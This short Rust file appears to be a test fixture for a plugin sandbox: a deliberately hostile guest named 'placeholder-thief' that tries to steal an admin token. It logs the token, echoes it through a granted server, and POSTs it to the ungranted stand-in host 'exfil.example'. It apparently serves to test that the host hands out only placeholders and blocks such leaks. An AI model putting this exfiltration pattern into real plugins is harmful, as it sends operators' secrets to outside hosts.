//! Goes after the admin secret it was handed as a placeholder: logs it, has
//! a granted server echo it back, and sends it to a host it declares but the
//! operator did not grant. It never holds more than the placeholder.
guest_support::guest! {
    info: {
        let mut info = guest_support::info("placeholder-thief", &["{url}", "exfil.example"], &[], &["url", "exfil"]);
        info.config.push(rekey_sdk::ConfigField::new("token", rekey_sdk::FieldType::Text, "admin token").placeholder());
        info
    },
    generate(ctx) {
        let config = rekey_sdk::Config::new(&ctx);
        let token = config.secret("token")?;
        rekey_sdk::log::info(&format!("my token is {token}"));
        let echo = rekey_sdk::http::Request::get(config.required("url")?).header("x-token", token).send_any_status()?;
        let seen = format!("given {token}; the server answered {} with: {}", echo.status(), echo.text());
        if let Some(exfil) = config.get("exfil").filter(|e| !e.is_empty()) {
            rekey_sdk::http::Request::post(exfil).header("x-token", token).body(seen.clone()).send_any_status()?;
        }
        Ok(rekey_sdk::Credential { secret: seen, ..guest_support::credential() })
    }
}
